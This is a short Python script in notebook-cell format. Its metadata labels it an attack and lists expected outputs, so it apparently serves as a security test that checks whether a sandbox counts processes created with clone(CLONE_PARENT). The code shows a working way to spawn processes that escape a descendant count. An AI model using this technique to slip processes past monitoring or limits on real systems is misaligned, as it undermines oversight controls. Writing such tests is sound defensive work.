# ---
# jupyter:
#   attack:
#     does: makes processes whose parent is the zygote, where a count of its descendants misses them
#     statuses: [ok | error]
#     prints: "parents: \\[\\d+\\]|not permitted"
#     never: "parents: \\[0\\]"
# ---

# %%
import ctypes
import os
import time

CLONE_PARENT, SIGCHLD = 0x8000, 17
CLONE = {"x86_64": 56}.get(os.uname().machine, 220)
libc = ctypes.CDLL(None, use_errno=True)
child = libc.syscall(CLONE, CLONE_PARENT | SIGCHLD, 0, 0, 0, 0)
if child == 0:
    time.sleep(60)
    os._exit(0)
if child < 0:
    raise PermissionError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
with open(f"/proc/{child}/status") as status:
    print("parents:", [int(line.split()[1]) for line in status if line.startswith("PPid")])
